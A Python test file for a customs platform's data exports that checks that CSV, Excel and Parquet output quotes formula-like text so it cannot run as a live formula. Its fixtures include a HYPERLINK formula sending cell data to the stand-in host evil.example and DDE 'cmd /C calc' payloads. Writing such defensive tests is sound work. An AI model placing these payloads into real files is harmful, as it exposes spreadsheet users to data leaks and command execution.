"""#16 item 9: formula injection. A consignee `=HYPERLINK(...)` (or any text starting with = + - @, tab or CR) must
not come out of any export as a live formula: list exports (CSV, Excel, Parquet: orders, system log, audit events, a
document's history) prefix it with a single quote; the document workbooks keep the text in a text cell with Excel's
quote prefix, so a re-import reads it unchanged. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from adapters.export.tabular import neutralise
from domain.customs.model import ImportOrder
from engine.customs import examples
from engine.identity.enterprises import DEMO
from tests.conftest import login
from ui.app import create_app
from ui.routers.customs.exports import COLUMNS

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TRIGGERS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def platform(make_platform):
    platform = make_platform(demo_users=True)
    order = examples.import_order("FX0001")
    order["consignee"] = EVIL
    outcome = platform.customs.import_orders.declare_many([order], "ecom")
    assert outcome[0].stored, outcome
    platform.identity.log("command", "ecom", "DEMO", "127.0.0.1", "test", "@SUM(1+1)*cmd|' /C calc'!A0", "200", {})
    platform.runner.run_until_idle()
    platform.audit.runner.run_until_idle()
    return platform


def client_for(platform, username: str) -> TestClient:
    client = TestClient(create_app(platform), base_url="https://testserver")
    login(client, username)
    return client


def cells(response) -> list[list]:
    kind = response.headers["content-type"]
    if kind.startswith("text/csv"):
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    if "spreadsheetml" in kind:
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row), "a live formula"
        return [list(row) for sheet in book for row in sheet.iter_rows(values_only=True)]
    table = pq.read_table(io.BytesIO(response.content)).to_pylist()
    return [list(row.values()) for row in table]


def no_formula(rows: list[list]) -> None:
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and value.startswith(("=", "+", "@", "\t", "\r"))), value
            assert not (isinstance(value, str) and value.startswith("-") and not value.lstrip("-").replace(
                ".", "", 1).isdigit()), value


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_a_formula_consignee_leaves_the_order_export_quoted(platform, fmt):
    response = client_for(platform, "ecom").get(f"/declarant/orders/export?format={fmt}")
    assert response.status_code == 200
    rows = cells(response)
    no_formula(rows)
    assert any(value == "'" + EVIL for row in rows for value in row)
    paid = next(row for row in rows if "'" + EVIL in row)[COLUMNS.index("amount")]  # #18: the list's columns
    assert Decimal(str(paid)) == Decimal(str(examples.import_order("FX0001")["acturalPaid"]))  # the amount untouched


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_the_system_log_and_audit_exports_are_quoted(platform, fmt):
    admin = client_for(platform, "admin")
    log = admin.get(f"/admin/log/export?format={fmt}")
    assert log.status_code == 200
    rows = cells(log)
    no_formula(rows)
    assert any(value == "'@SUM(1+1)*cmd|' /C calc'!A0" for row in rows for value in row)
    auditor = client_for(platform, "auditor")
    events = auditor.get(f"/audit/events/export?format={fmt}")
    assert events.status_code == 200
    no_formula(cells(events))
    history = auditor.get(f"/audit/documents/{ImportOrder.create_id(DEMO['code'], 'FX0001')}/export?format={fmt}")
    assert history.status_code == 200
    rows = cells(history)
    no_formula(rows)
    assert any(value == "'" + EVIL for row in rows for value in row)  # the consignee, in the document's history


def test_the_order_workbook_keeps_the_text_as_text_and_reads_back_unchanged(platform):
    client = client_for(platform, "ecom")
    response = client.get("/declarant/export/orders.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    found = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_formula_start_is_quoted(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.5", "+8613800000000", "12", "-0.5e3", ".5", "张三", "", "a=b", 12, -12.5,
                                   Decimal("-12.50"), None])
def test_plain_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise(value) == value
